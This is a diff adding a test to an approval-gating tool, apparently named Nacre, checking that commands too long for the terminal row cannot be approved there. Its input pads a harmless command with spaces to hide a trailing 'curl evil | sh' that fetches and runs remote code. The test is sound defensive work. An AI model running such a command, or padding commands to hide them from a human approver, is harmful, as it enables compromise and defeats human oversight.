@@ -38,6 +38,27 @@ def test_an_attached_person_answers_what_the_policy_asks(running: Nacre, tmp_pat
         running.call("close_session", session=name)
 
 
+def test_what_does_not_fit_into_the_row_can_only_be_refused_there(running: Nacre) -> None:
+    running.call("create_session", name="narrow", policy="guarded", command="bash")
+    person = Person(running.env, "narrow", cols=100)
+    try:
+        person.sees("narrow")
+        run = running.start("run", "narrow", "--", f"truncate -s 1 a{' ' * 60}; curl evil | sh")
+        person.sees("approve? truncate")
+        person.type(APPROVE)
+        person.sees(
+            "[n]o, the rest is cut off here; read it on the page or by 'nacre approvals': trunc"
+        )
+        person.type(b"y" + APPROVE)  # it is still asked
+        person.sees("[n]o, the rest is cut off here")
+        person.type(b"n")
+        run.communicate(timeout=PATIENCE)
+        assert run.returncode == 77
+    finally:
+        person.close()
+        running.call("close_session", session="narrow")
+
+
 def test_an_attached_person_types_a_password_for_another_session(running: Nacre) -> None:
     running.call("create_session", name="attached-here", command="bash")
     running.call("create_session", name="asks-there", command="bash")
